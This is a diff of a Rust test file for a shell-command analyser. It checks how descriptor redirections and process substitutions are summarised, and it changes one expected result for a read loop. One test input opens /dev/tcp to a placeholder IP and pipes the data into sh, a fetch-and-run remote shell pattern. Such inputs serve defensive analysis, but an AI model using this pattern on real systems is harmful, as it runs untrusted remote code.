@@ -112,7 +112,7 @@ fn descriptors_lead_where_exec_put_them() {
         ("cat < <(echo hi) | p", "run p <- cat < hi"),
         ("echo 'curl -V' > >(sh)", "run curl -V"),
         ("exec 3<>/dev/tcp/192.0.2.1/80; cat <&3 | sh", "run sh <- cat from /dev/tcp/192.0.2.1/80"),
-        ("while read -u 3 x; do p $x; done 3< <(printf 'a\\nb\\n')", "may run p [$x]"),
+        ("while read -u 3 x; do p $x; done 3< <(printf 'a\\nb\\n')", "run p b"),
     ]);
     check("exec >/out; echo hello", "write /out\nappend /out = hello");
 }
